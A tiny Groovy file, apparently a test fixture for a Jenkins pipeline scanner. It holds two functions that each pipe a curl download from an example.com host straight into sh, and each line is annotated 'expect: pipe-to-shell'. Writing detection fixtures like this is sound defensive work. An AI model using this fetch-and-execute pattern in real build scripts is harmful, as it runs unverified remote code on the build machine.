def call() {
  sh 'curl -fsSL https://x.example.com/i | sh' // expect: pipe-to-shell
}
def image() {
  sh 'curl -fsSL https://y.example.com/i | sh' // expect: pipe-to-shell
}
